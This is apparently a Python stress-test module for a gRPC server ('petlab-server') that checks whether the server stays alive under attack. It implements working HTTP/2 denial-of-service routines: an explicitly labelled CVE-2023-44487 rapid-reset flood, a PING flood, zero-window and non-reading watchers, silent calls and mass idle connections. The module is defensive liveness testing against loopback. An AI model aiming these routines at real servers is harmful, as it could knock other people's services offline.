"""Hostile health watchers against a real ``petlab-server`` process, and the probe that says whether
the server stayed alive (``tests/e2e/test_liveness.py``, ``experiments/liveness_stress.py``).

* :class:`RawWatch`: one health ``Watch`` on a raw HTTP/2 connection (the ``h2`` package) that
  announces a stream window of ``window`` bytes and never grants more: ``window=0`` is the zero-window
  peer (no status can ever be delivered), ``window=7`` the non-reader (the first status, 7 bytes with
  gRPC's framing, spends the window). It still answers PINGs and acknowledges SETTINGS, as a live
  but hostile peer does.
* :func:`leaving_watcher`: an ordinary grpc client that watches and leaves at a random moment.
* :func:`attack`: zero-window, non-reading and leaving watchers while health flips ``flips`` times
  (SIGUSR1 to the server, the owner's maintenance toggle; or any ``flip`` callable), probing health
  ``Check`` and ``ListModels`` with a deadline throughout. The caller then stops the process.

Everything is bounded: every socket has a timeout, every call a deadline, every thread is joined
with a timeout. Loopback only.
"""

from __future__ import annotations

import contextlib
import random
import signal
import socket
import struct
import threading
import time
from collections.abc import Callable, Sequence
from dataclasses import dataclass, field
from pathlib import Path

import grpc
import h2.config
import h2.connection
import h2.events
import h2.settings
from grpc_health.v1 import health_pb2, health_pb2_grpc

from petlab.experiments.server_process import ServerProcess
from petlab.plaindata import acs_sample_path
from petlab.protos import knn_pb2, knn_pb2_grpc

WATCH_PATH = "/grpc.health.v1.Health/Watch"
PROBE_SECONDS = 5.0  # a probe call's deadline: a server that does not answer within it is stuck


class RawStream:
    """One gRPC call on a raw HTTP/2 connection whose stream window is ``window`` bytes and never
    grows: ``message`` (serialized) is sent as the one request, the request stream left open unless
    ``end_stream``."""

    def __init__(self, host: str, port: int, window: int, path: str, message: bytes, end_stream: bool):
        connection = RawConnection(host, port, window)
        self.sock, self.conn = connection.sock, connection.conn
        stream = self.conn.get_next_available_stream_id()
        self.conn.send_headers(stream, connection.headers(path))
        self.conn.send_data(stream, struct.pack(">BI", 0, len(message)) + message, end_stream=end_stream)
        connection.flush()
        self.closed = threading.Event()
        self.ended_by_server = threading.Event()  # RST_STREAM, trailers or GOAWAY: the server let go
        self._reader = threading.Thread(target=self._read, name="raw-watch", daemon=True)
        self._reader.start()

    def _read(self) -> None:
        """Frames are parsed (SETTINGS acknowledged, PINGs answered) but no WINDOW_UPDATE is sent."""
        self.sock.settimeout(0.5)
        while not self.closed.is_set():
            try:
                data = self.sock.recv(65536)
            except TimeoutError:
                continue
            except OSError:
                break
            if not data:
                break
            try:
                events = self.conn.receive_data(data)
                self.sock.sendall(self.conn.data_to_send())
            except Exception:  # a protocol error or a closed socket: this peer is done
                break
            if any(
                isinstance(e, h2.events.StreamReset | h2.events.ConnectionTerminated | h2.events.StreamEnded)
                for e in events
            ):
                self.ended_by_server.set()
        self.ended_by_server.set()

    def close(self) -> None:
        self.closed.set()
        with contextlib.suppress(OSError):
            self.sock.close()
        self._reader.join(timeout=5)


class RawWatch(RawStream):
    """A health ``Watch`` (of the whole server unless ``service``) on a :class:`RawStream`."""

    def __init__(self, host: str, port: int, window: int, service: str = ""):
        request = health_pb2.HealthCheckRequest(service=service).SerializeToString()
        super().__init__(host, port, window, WATCH_PATH, request, end_stream=True)


def leaving_watcher(address: str, stop: threading.Event, rng: random.Random) -> None:
    """Watch health, read for a random while (up to 0.5 s), leave; again until ``stop``."""
    while not stop.is_set():
        with grpc.insecure_channel(address) as channel:
            call = health_pb2_grpc.HealthStub(channel).Watch(health_pb2.HealthCheckRequest(), timeout=30)
            leave_at = time.monotonic() + rng.uniform(0.0, 0.5)
            timer = threading.Timer(max(leave_at - time.monotonic(), 0.0), call.cancel)
            timer.daemon = True
            timer.start()
            with contextlib.suppress(grpc.RpcError):
                for _ in call:
                    if stop.is_set():
                        break
            call.cancel()
            timer.cancel()


@dataclass
class Probe:
    """The slowest answer of health ``Check`` and ``ListModels``, and what failed."""

    slowest_check: float = 0.0
    slowest_list: float = 0.0
    calls: int = 0
    dropped: int = 0  # hostile watchers the server cancelled (each came back)
    failures: list[str] = field(default_factory=list)
    statuses: list[int] = field(default_factory=list)  # what each Check answered, in order

    @property
    def hung(self) -> bool:
        return bool(self.failures)


def probe(address: str, stop: threading.Event, result: Probe) -> None:
    """``Check`` and ``ListModels`` every 50 ms, each with a :data:`PROBE_SECONDS` deadline, each
    on a fresh connection (a stuck shared connection must not hide a live server, nor the reverse)."""
    while not stop.is_set():
        with grpc.insecure_channel(address) as channel:
            for name, call in (
                (
                    "Check",
                    lambda: health_pb2_grpc.HealthStub(channel).Check(
                        health_pb2.HealthCheckRequest(), timeout=PROBE_SECONDS
                    ),
                ),
                (
                    "ListModels",
                    lambda: knn_pb2_grpc.KnnServiceStub(channel).ListModels(
                        knn_pb2.ListModelsRequest(), timeout=PROBE_SECONDS
                    ),
                ),
            ):
                began = time.monotonic()
                try:
                    answer = call()
                    if name == "Check":
                        result.statuses.append(answer.status)
                except grpc.RpcError as exc:
                    result.failures.append(
                        f"{name}: {exc.code().name} after {time.monotonic() - began:.1f} s"
                    )
                took = time.monotonic() - began
                result.calls += 1
                if name == "Check":
                    result.slowest_check = max(result.slowest_check, took)
                else:
                    result.slowest_list = max(result.slowest_list, took)
        stop.wait(0.05)


def attack(
    address: str,
    flip: Callable[[], None],
    flips: int = 40,
    flip_seconds: float = 0.05,
    zero_window: int = 1,
    non_readers: int = 1,
    leavers: int = 2,
    seed: int = 0,
) -> Probe:
    """The attack of the module docstring; returns the probe's record. Health flips ``flips`` times,
    ``flip_seconds`` apart, while the hostile watchers stay and the leaving ones come and go."""
    host, port = address.rsplit(":", 1)
    rng = random.Random(seed)
    windows = [0] * zero_window + [7] * non_readers
    raw = [RawWatch(host, int(port), window) for window in windows]
    stop, result = threading.Event(), Probe()
    threads = [threading.Thread(target=probe, args=(address, stop, result), name="probe", daemon=True)]
    threads += [
        threading.Thread(
            target=leaving_watcher,
            args=(address, stop, random.Random(rng.random())),
            name="leaver",
            daemon=True,
        )
        for _ in range(leavers)
    ]
    for thread in threads:
        thread.start()
    try:
        for _ in range(flips):
            flip()
            time.sleep(flip_seconds * rng.uniform(0.5, 1.5))
            for i, watch in enumerate(raw):  # a hostile watcher the server dropped comes back
                if watch.ended_by_server.is_set():
                    watch.close()
                    result.dropped += 1
                    with contextlib.suppress(OSError):
                        raw[i] = RawWatch(host, int(port), windows[i])
        time.sleep(0.5)  # the last flip's sends
    finally:
        stop.set()
        for thread in threads:
            thread.join(timeout=2 * PROBE_SECONDS + 5)
            if thread.is_alive():
                result.failures.append(f"{thread.name} still running after its stop")
        for watch in raw:
            watch.close()
    return result


def liveness_server(work: Path, grace: float = 2.0, arguments: Sequence[str] = ()) -> ServerProcess:
    """``petlab-server serve`` with ``--grace`` and a 2 s send deadline: the controller on the
    bundled ACS sample (no circuit to compile) unless ``arguments`` name models."""
    flags = ["--grace", str(grace), "--send-seconds", "2"]
    flags += list(arguments) or ["--analysis-data", str(acs_sample_path()), "--open-analysis"]
    return ServerProcess(work, flags)


def flip(server: ServerProcess) -> Callable[[], None]:
    """The owner's maintenance toggle (SIGUSR1) of ``server``: health flips."""
    return lambda: server.signal(signal.SIGUSR1)


# ---------------------------------------------------------------------------------- floods

CHECK_PATH = "/grpc.health.v1.Health/Check"


class RawConnection:
    """A raw HTTP/2 client connection (``h2``) for the floods below: SETTINGS with a stream window
    of ``window`` bytes, no reads unless asked (a peer that does not read)."""

    def __init__(self, host: str, port: int, window: int = 65535):
        self.host, self.port = host, port
        self.sock = socket.create_connection((host, port), timeout=5)
        config = h2.config.H2Configuration(client_side=True, header_encoding="utf-8")
        self.conn = h2.connection.H2Connection(config=config)
        self.conn.local_settings = h2.settings.Settings(
            client=True, initial_values={h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: window}
        )
        self.conn.initiate_connection()
        self.flush()
        self.goaway = False

    def headers(self, path: str) -> list[tuple[str, str]]:
        return [
            (":method", "POST"),
            (":scheme", "http"),
            (":path", path),
            (":authority", f"{self.host}:{self.port}"),
            ("content-type", "application/grpc"),
            ("te", "trailers"),
        ]

    def flush(self) -> None:
        data = self.conn.data_to_send()
        if data:
            self.sock.sendall(data)

    def drain(self) -> None:
        """Read what has arrived without waiting (SETTINGS acknowledged, GOAWAY noted)."""
        self.sock.setblocking(False)
        try:
            while True:
                data = self.sock.recv(1 << 16)
                if not data:
                    self.goaway = True
                    return
                for event in self.conn.receive_data(data):
                    if isinstance(event, h2.events.ConnectionTerminated):
                        self.goaway = True
        except (BlockingIOError, InterruptedError):
            pass
        except Exception:  # a reset connection or a protocol error: this connection is done
            self.goaway = True
        finally:
            self.sock.settimeout(5)

    def close(self) -> None:
        with contextlib.suppress(OSError):
            self.sock.close()


def rapid_reset(host: str, port: int, seconds: float, batch: int = 100) -> int:
    """HEADERS then RST_STREAM at once for health ``Check`` streams, ``batch`` at a time, for
    ``seconds`` (CVE-2023-44487), reconnecting when the server ends the connection. Returns the
    streams opened."""
    opened, ends = 0, time.monotonic() + seconds
    connection: RawConnection | None = None
    request = struct.pack(">BI", 0, 0)
    while time.monotonic() < ends:
        if connection is None or connection.goaway:
            if connection is not None:
                connection.close()
            try:
                connection = RawConnection(host, port)
            except OSError:
                time.sleep(0.05)
                continue
        try:
            for _ in range(batch):
                stream = connection.conn.get_next_available_stream_id()
                connection.conn.send_headers(stream, connection.headers(CHECK_PATH))
                connection.conn.send_data(stream, request)
                connection.conn.reset_stream(stream)
                opened += 1
            connection.flush()
            connection.drain()
        except Exception:  # the server closed the connection, or h2 ran out of stream ids
            connection.goaway = True
    if connection is not None:
        connection.close()
    return opened


def ping_flood(host: str, port: int, seconds: float) -> int:
    """PING frames as fast as the socket takes them, no acknowledgement ever read; reconnecting
    when the server ends the connection. Returns the pings sent."""
    sent, ends = 0, time.monotonic() + seconds
    connection: RawConnection | None = None
    while time.monotonic() < ends:
        try:
            if connection is None:
                connection = RawConnection(host, port)
            for _ in range(100):
                connection.conn.ping(struct.pack(">Q", sent))
                sent += 1
            connection.flush()
        except Exception:  # ended by the server (GOAWAY, reset): come back
            if connection is not None:
                connection.close()
            connection = None
            time.sleep(0.01)
    if connection is not None:
        connection.close()
    return sent


def silent_call(host: str, port: int, path: str = WATCH_PATH) -> RawConnection:
    """A call whose request never comes: HEADERS, then nothing (the stream left open)."""
    connection = RawConnection(host, port)
    stream = connection.conn.get_next_available_stream_id()
    connection.conn.send_headers(stream, connection.headers(path))
    connection.flush()
    return connection


def unread_unary_calls(host: str, port: int, path: str, message: bytes, seconds: float, rate: float) -> int:
    """Unary calls at ``rate`` per second on a connection whose window is 0: no reply can be
    delivered. Returns the calls sent (streams the server refuses are simply not answered)."""
    sent, ends = 0, time.monotonic() + seconds
    connection = RawConnection(host, port, window=0)
    framed = struct.pack(">BI", 0, len(message)) + message
    try:
        while time.monotonic() < ends:
            try:
                stream = connection.conn.get_next_available_stream_id()
                connection.conn.send_headers(stream, connection.headers(path))
                connection.conn.send_data(stream, framed, end_stream=True)
                connection.flush()
                connection.drain()
                sent += 1
            except Exception:  # the stream limit (h2 refuses more) or a closed connection
                connection.close()
                connection = RawConnection(host, port, window=0)
            time.sleep(1 / rate)
    finally:
        connection.close()
    return sent


def idle_connections(host: str, port: int, count: int) -> list[socket.socket]:
    """``count`` TCP connections that send nothing (each holds a descriptor of the server's)."""
    sockets = []
    for _ in range(count):
        try:
            sockets.append(socket.create_connection((host, port), timeout=5))
        except OSError:
            break
    return sockets


def floods(address: str, seconds: float = 6.0) -> Probe:
    """Every flood at once for ``seconds`` (rapid reset on four connections, two ping floods, two
    zero-window connections of unread controller calls, 1,100 idle connections, twenty silent
    calls) while :func:`probe` calls ``Check`` and ``ListModels``; returns the probe's record."""
    host, port = address.rsplit(":", 1)
    target = (host, int(port))
    held = idle_connections(*target, 1100)
    silent = [silent_call(*target) for _ in range(20)]
    describe = "/petlab.controller.v1.AnalysisController/Describe"
    attacks = [lambda: rapid_reset(*target, seconds)] * 4 + [lambda: ping_flood(*target, seconds)] * 2
    attacks += [lambda: unread_unary_calls(*target, describe, b"", seconds, 500)] * 2
    stop, result = threading.Event(), Probe()
    threads = [threading.Thread(target=probe, args=(address, stop, result), name="probe", daemon=True)]
    threads += [threading.Thread(target=flood, name="flood", daemon=True) for flood in attacks]
    for thread in threads:
        thread.start()
    try:
        time.sleep(seconds)
    finally:
        stop.set()
        for thread in threads:
            thread.join(timeout=2 * PROBE_SECONDS + seconds + 5)
            if thread.is_alive():
                result.failures.append(f"{thread.name} still running after its stop")
        for connection in silent:
            connection.close()
        for sock in held:
            sock.close()
    return result
